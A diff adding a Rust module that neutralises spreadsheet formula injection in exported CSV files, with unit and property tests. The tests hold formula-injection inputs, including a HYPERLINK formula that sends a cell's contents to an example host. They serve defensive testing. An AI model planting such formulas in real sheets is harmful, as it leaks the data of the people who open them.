@@ -1,0 +1,237 @@
+//! Cells of the sheets that we write, which no spreadsheet program takes for a formula.
+//!
+//! A spreadsheet program runs a cell of a CSV file that begins with `=`, `+`, `-` or `@` as a formula, and a formula can send
+//! what is on the sheet to a stranger. Names of fields and roles, and values that people enter, may begin so. A [`SafeCell`]
+//! has an apostrophe before such a beginning, which makes it text. [`original`] takes it away again when a sheet is read, so a
+//! sheet that we wrote reads as what it was made of.
+//!
+//! A program whose separator is not our comma splits cells where we do not, at `;` or a tab or within quotes at a line end:
+//! in Germany it is `;`. So what follows such a character counts as the beginning of a cell too. Spaces, invisible characters
+//! and quotes before a formula are skipped, as programs skip them.
+
+use std::borrow::Cow;
+
+/// A cell that can be written into any sheet.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct SafeCell(String);
+
+impl SafeCell {
+    /// A text. A number that is written as one, such as `-5` or `0.5`, stays a number.
+    pub fn text(text: &str) -> SafeCell {
+        if is_number(text) {
+            return SafeCell(text.to_owned());
+        }
+        let mut written = String::with_capacity(text.len() + 1);
+        if begins_with_separator(text) {
+            written.push('\'');
+        }
+        for part in parts(text) {
+            if would_run(part) {
+                written.push('\'');
+            }
+            written.push_str(part);
+        }
+        SafeCell(written)
+    }
+
+    /// As it stands in a CSV file (RFC 4180).
+    fn quoted(&self) -> Cow<'_, str> {
+        let SafeCell(text) = self;
+        if text.contains([',', ';', '\t', '"', '\r', '\n']) {
+            Cow::Owned(format!("\"{}\"", text.replace('"', "\"\"")))
+        } else {
+            Cow::Borrowed(text)
+        }
+    }
+}
+
+/// A CSV file that spreadsheet programs open as what it is: UTF-8 with a byte order mark.
+pub fn csv(rows: &[Vec<SafeCell>]) -> String {
+    let mut file = "\u{feff}".to_owned();
+    for row in rows {
+        let cells: Vec<Cow<'_, str>> = row.iter().map(SafeCell::quoted).collect();
+        file.push_str(&cells.join(","));
+        file.push_str("\r\n");
+    }
+    file
+}
+
+/// What a cell was before [`SafeCell::text`] made it safe. A cell that needed no apostrophe has lost none.
+pub fn original(cell: &str) -> Cow<'_, str> {
+    if !cell.contains('\'') {
+        return Cow::Borrowed(cell);
+    }
+    let cell = cell
+        .strip_prefix('\'')
+        .filter(|rest| begins_with_separator(rest))
+        .unwrap_or(cell);
+    let original = |part| match str::strip_prefix(part, '\'') {
+        Some(rest) if would_run(rest) => rest,
+        _ => part,
+    };
+    Cow::Owned(parts(cell).map(original).collect())
+}
+
+/// What programs with any separator could take for a cell, each but the first with the separator before it cut off … and
+/// given back as a part of its own.
+fn parts(text: &str) -> impl Iterator<Item = &str> {
+    let is_separator = |c: char| matches!(c, ';' | '\t' | '\r' | '\n');
+    text.split_inclusive(is_separator).flat_map(move |part| {
+        let cell = part.trim_end_matches(is_separator);
+        let (cell, separator) = part.split_at(cell.len());
+        [cell, separator]
+    })
+}
+
+/// Whether a text, with apostrophes before it or without, begins with what programs drop or split at.
+fn begins_with_separator(text: &str) -> bool {
+    text.trim_start_matches('\'').starts_with(['\t', '\r', '\n'])
+}
+
+/// Whether a program could run this as a formula: characters that open one, behind any that are skipped. Apostrophes are
+/// skipped as well, so that adding one never makes a text look harmless that was not.
+fn would_run(cell: &str) -> bool {
+    cell.trim_start_matches(is_skipped)
+        .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
+}
+
+fn is_skipped(character: char) -> bool {
+    character.is_whitespace()
+        || character.is_control()
+        || matches!(character, '\'' | '"' | '`' | '‘' | '’' | '“' | '”' | '＇' | '＂')
+        || matches!(character, '\u{ad}' | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{2069}' | '\u{feff}')
+}
+
+/// Digits with a minus and a fraction at most. A plus is no part of a number: telephone numbers begin with it, and a program
+/// would drop it.
+fn is_number(text: &str) -> bool {
+    let digits = text.strip_prefix('-').unwrap_or(text);
+    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
+    let are_digits = |text: &str| !text.is_empty() && text.bytes().all(|byte| byte.is_ascii_digit());
+    are_digits(whole) && are_digits(fraction)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::sheet::{SheetCell, SheetLimits, read};
+    use proptest::prelude::*;
+
+    const LINK: &str = "=HYPERLINK(\"http://example.com?\"&A1,\"Click\")";
+
+    fn written(text: &str) -> String {
+        SafeCell::text(text).0
+    }
+
+    #[test]
+    fn what_a_program_would_run_has_an_apostrophe_before_it() {
+        for text in [
+            LINK,
+            "=1",
+            "+1+1",
+            "+821012345678",
+            "-1+1",
+            "-5-",
+            "@SUM(A1)",
+            " =1",
+            "\u{a0}=1",
+            "\u{3000}＝1",
+            "\u{200b}=1",
+            "\"=1",
+            "“=1",
+            "\u{feff}@x",
+            "＠x",
+            "\tx",
+            "\rx",
+            "\nx",
+            "'=1",
+        ] {
+            assert_eq!(written(text), format!("'{text}"), "{text:?}");
+            assert_eq!(original(&written(text)), text);
+        }
+        assert_eq!(written("a;=1\n +2\t@b"), "a;'=1\n' +2\t'@b");
+    }
+
+    #[test]
+    fn what_no_program_would_run_stays_as_it_is() {
+        for text in [
+            "",
+            "김민준",
+            "a=1",
+            "a-b",
+            "1.name",
+            "field:x",
+            "-5",
+            "-0.5",
+            "0",
+            "1.50",
+            "'quoted'",
+            "a;b",
+            "a@example.com",
+        ] {
+            assert_eq!(written(text), text);
+            assert_eq!(original(text), text);
+        }
+    }
+
+    /// How a program with another separator, or none that knows quotes, would cut a file.
+    fn cells_of_any_program(file: &str) -> Vec<String> {
+        let mut cells = Vec::new();
+        for separator in [',', ';', '\t'] {
+            for line in file.split(['\r', '\n']) {
+                cells.extend(line.split(separator).map(str::to_owned));
+            }
+        }
+        cells
+    }
+
+    fn text() -> impl Strategy<Value = String> {
+        let pieces = prop_oneof![
+            Just("="),
+            Just("+"),
+            Just("-"),
+            Just("@"),
+            Just("＝"),
+            Just("'"),
+            Just("\""),
+            Just(" "),
+            Just("\t"),
+            Just("\r"),
+            Just("\n"),
+            Just(";"),
+            Just("1"),
+            Just("a"),
+            Just("\u{200b}"),
+            Just("\u{3000}"),
+        ];
+        prop::collection::vec(pieces, 0..8).prop_map(|pieces| pieces.concat())
+    }
+
+    proptest! {
+        #[test]
+        fn a_sheet_that_we_wrote_reads_as_what_it_was_made_of(texts in prop::collection::vec(text(), 1..4)) {
+            let rows = vec![
+                texts.iter().enumerate().map(|(at, _)| SafeCell::text(&format!("c{at}"))).collect(),
+                texts.iter().map(|text| SafeCell::text(text)).collect(),
+            ];
+            let sheet = read(csv(&rows).as_bytes(), &SheetLimits::default()).expect("it is read");
+            // A row without content is none, and empty cells at its end are none.
+            let read: Vec<SheetCell> = sheet.rows.first().map(|row| row.cells.clone()).unwrap_or_default();
+            for (at, text) in texts.iter().enumerate() {
+                let cell = read.get(at).cloned().unwrap_or(SheetCell::Text(String::new()));
+                let is_blank = text.trim().is_empty();
+                prop_assert!(cell == SheetCell::Text(text.clone()) || is_blank, "{text:?} {cell:?}");
+            }
+        }
+
+        #[test]
+        fn no_program_finds_a_formula_in_what_we_wrote(texts in prop::collection::vec(text(), 1..4)) {
+            let rows = vec![texts.iter().map(|text| SafeCell::text(text)).collect()];
+            for cell in cells_of_any_program(&csv(&rows)) {
+                let seen = cell.trim_start_matches(|c: char| is_skipped(c) && c != '\'');
+                let is_harmless = is_number(seen.split(',').next().unwrap_or_default());
+                prop_assert!(is_harmless || !seen.starts_with(['=', '+', '-', '@', '＝']), "{texts:?}: {cell:?}");
+            }
+        }
+    }
+}
